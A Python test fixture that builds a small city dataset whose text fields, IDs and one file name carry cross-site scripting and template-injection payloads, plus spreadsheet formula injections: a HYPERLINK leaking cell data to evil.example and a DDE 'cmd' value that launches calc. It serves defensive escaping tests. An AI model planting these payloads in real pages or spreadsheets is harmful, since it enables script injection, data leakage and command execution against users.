"""Hostile text and a hostile city: geo's tiny city with a payload in every text field.

Each payload is built to run ``window.__pwned = 1`` (or open a dialog) if it is ever
inserted as HTML, as an attribute, inside a ``<script>``, or inside a JavaScript
template literal. Every text value of the data set is ``<field marker> + PAYLOAD``,
so a test can find a field by its marker and compare the rest as text.
"""

import json

import geopandas as gpd
import pandas as pd

from tests.geo import tiny

# One string that attacks every context at once; the browser tests assert that
# window.__pwned stays undefined and that no dialog opens.
PAYLOAD = (
    "<b>bold</b> <script>window.__pwned=1</script>"
    "<img src=x onerror=\"window.__pwned=1;alert(1)\">"
    "\" onmouseover=\"window.__pwned=1\" x=\""
    "' onfocus='window.__pwned=1' autofocus='"
    "</script><script>window.__pwned=1;alert(2)</script>"
    "</textarea></title></style><svg onload=alert(3)>"
    "${window.__pwned=1}`+alert(4)+`\\`"
    "{{7*7}}{% raw %} $x^$ %s %(x)s"
    "\u202etxt.exe\u202c =1+2"
)
# A street name as the search reads one from an address (no , ; or parentheses in it).
STREET_PAYLOAD = "<img src=x onerror=window.__pwned=1>\"' onfocus=window.__pwned=1 {{7*7}}${1} &lt"
# Raw fragments that must never appear in an HTML response as they are (escaped
# forms are fine). Finding one means the payload reached the page as markup.
RAW_FRAGMENTS = (
    "<script>window.__pwned", "<img src=x onerror", "<svg onload", "<b>bold</b>",
    "</script><script>",
)
# A cell that a spreadsheet would run as a formula.
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"

HOSTILE_WORK_ID = "w'\"><img src=x onerror=alert(5)>${1}"
HOSTILE_DISTRICT_ID = "d\"><svg onload=alert(6)>"
HOSTILE_NEED_ID = "n'\"><svg onload=alert(8)>${1}{{7*7}}"
# The work a browser test clicks to open its popup.
POPUP_WORK_ID = "p1"
# The needs with a point (their popups); n12 gets the hostile id.
POPUP_NEED_ID = "n1"


def hostile(marker):
    """A field's value: its marker (to find it) then the payload."""
    return f"{marker}:{PAYLOAD}"


def districts():
    rows = []
    for row in tiny.DISTRICTS:
        rows.append({**row, **{f"name_{lang}": hostile(f"district-{row['id']}-{lang}")
                               for lang in ("ru", "kk", "en")}})
    rows[2] = {**rows[2], "id": HOSTILE_DISTRICT_ID}
    return rows


def works():
    rows = []
    for row in tiny.WORKS:
        texts = {f"title_{lang}": hostile(f"work-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
        # "ул. <name>, ...": the search makes a street of the name (a label, a key in URLs)
        work_id = row["id"]
        address = f"ул. street-{work_id}:{STREET_PAYLOAD}, {hostile(f'address-{work_id}')}"
        rows.append({**row, **texts, "address": address})
    rows[-1] = {**rows[-1], "id": HOSTILE_WORK_ID}  # p22, in the district with the hostile id
    return rows


def funding():
    rows = [{**row, "note": hostile(f"note-{row['record_id']}")} for row in tiny.FUNDING]
    rows[-1] = {**rows[-1], "work_id": HOSTILE_WORK_ID}
    rows[0] = {**rows[0], "note": FORMULA}
    rows[1] = {**rows[1], "record_id": "@SUM(1+1)*cmd|' /C calc'!A0"}
    return rows


def meetings():
    rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
    return [{**row, "district_id": rename.get(row["district_id"], row["district_id"]),
             "summary_ru": hostile(f"meeting-{i}-ru"), "summary_kk": hostile(f"meeting-{i}-kk"),
             "place": hostile(f"meeting-{i}-place"), "time": "18:30-20:00" if i % 2 else ""}
            for i, row in enumerate(tiny.MEETINGS)]


def needs():
    """geo's tiny needs with a payload in every title and answer (a declined need must
    answer), n12 (waiting, with a point) under a hostile id in the hostile district."""
    rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
    rows = []
    for row in tiny.NEEDS:
        texts = {f"title_{lang}": hostile(f"need-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
        texts.update({f"answer_{lang}": hostile(f"answer-{row['id']}-{lang}") for lang in ("ru", "kk")})
        # The hostile work id has spaces, which work_ids cannot carry: n13 answers no work here.
        work_ids = "" if row["id"] == "n13" else row["work_ids"]
        rows.append({**row, **texts, "work_ids": work_ids,
                     "district_id": rename.get(row["district_id"], row["district_id"])})
    rows[11] = {**rows[11], "id": HOSTILE_NEED_ID}
    rows[0] = {**rows[0], "title_ru": FORMULA}
    return rows


def write_hostile_city(folder):
    """Write the hostile city (GeoJSON through pyogrio, CSV) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    gpd.GeoDataFrame(districts(), crs=tiny.CRS).to_file(folder / "districts.geojson", engine="pyogrio")
    # A file name is data too: the check report and problems show it.
    works_file = folder / "works_<img src=x onerror=alert(7)>.geojson"
    gpd.GeoDataFrame(works(), crs=tiny.CRS).to_file(works_file, engine="pyogrio")
    pd.DataFrame(funding()).to_csv(folder / "funding.csv", index=False)
    pd.DataFrame(meetings()).to_csv(folder / "meetings.csv", index=False)
    pd.DataFrame(needs()).to_csv(folder / "needs.csv", index=False)
    (folder / "city.json").write_text(json.dumps({
        "center": [82.61, 49.945], "metric_crs": tiny.METRIC, "extent": [82.0, 49.5, 83.5, 50.5],
        "name": {lang: hostile(f"city-{lang}") for lang in ("ru", "kk", "en")},
    }), encoding="utf-8")
    return folder
